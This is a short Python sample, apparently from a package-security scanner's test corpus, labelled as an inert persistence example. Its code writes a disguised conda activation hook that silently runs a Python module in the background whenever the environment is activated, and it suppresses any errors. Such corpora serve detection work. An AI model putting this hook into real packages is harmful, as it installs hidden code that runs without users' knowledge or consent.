# pkgguard corpus 896 (persistence), modelled on [developer-persistence]; inert, never run.
import os
import sys

prefix = os.environ.get("CONDA_PREFIX") or sys.prefix
hook_dir = os.path.join(prefix, "etc", "conda", "activate.d")
if os.path.isdir(os.path.join(prefix, "conda-meta")):
    try:
        os.makedirs(hook_dir, exist_ok=True)
        with open(os.path.join(hook_dir, "zz-env-vars.sh"), "w", encoding="utf-8") as fh:
            fh.write("(\"$CONDA_PREFIX/bin/python\" -m pkg._sync >/dev/null 2>&1 &)\n")
    except OSError:
        pass
